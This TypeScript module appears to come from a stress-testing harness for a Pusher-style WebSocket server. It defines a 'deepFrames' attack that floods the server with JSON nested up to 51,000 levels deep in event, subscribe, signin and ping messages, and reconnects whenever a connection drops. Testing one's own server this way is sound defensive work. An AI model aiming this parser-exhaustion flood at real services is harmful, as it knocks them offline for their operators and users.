import { clientFrame } from '../../channels/client-frame.ts';
import type { Attack } from '../attack.ts';
import { createLine } from '../network.ts';
import { openRawSocket } from '../raw-socket.ts';

/** From the 9 KB that are too deep to be written again, to the longest frame that is taken. */
const LEVELS = [4_600, 20_000, 51_000];

/** Frames that are nested deeply, in each place that JSON is read from; a new connection after each that is closed. */
export const deepFrames: Attack = async ({ url, key, signal }) => {
  const line = createLine(signal);
  const frames = LEVELS.flatMap((levels) => framesOf(levels));
  let { socket } = await openRawSocket(url, key);
  let connections = 1;
  for (let n = 0; !signal.aborted; n += 1) {
    if (!socket.writable) {
      ({ socket } = await openRawSocket(url, key));
      connections += 1;
    }
    const frame = frames[n % frames.length];
    if (frame) await line.write(socket, frame);
  }
  return `${line.written().writes} frames on ${connections} connections`;
};

function framesOf(levels: number): Buffer[] {
  const nested = '['.repeat(levels) + ']'.repeat(levels);
  // As text inside of JSON, for what is signed and then parsed.
  const text = JSON.stringify(nested);
  const messages = [
    `{"event":"client-a","channel":"x","data":${nested}}`,
    `{"event":"pusher:subscribe","data":{"channel":"presence-x","auth":"a:b","channel_data":${text}}}`,
    `{"event":"pusher:signin","data":{"auth":"a:b","user_data":${text}}}`,
    `{"event":"pusher:ping","data":${'{"a":'.repeat(levels / 4)}1${'}'.repeat(levels / 4)}}`,
    nested,
  ];
  return messages.filter((message) => message.length <= 102_400).map(clientFrame);
}
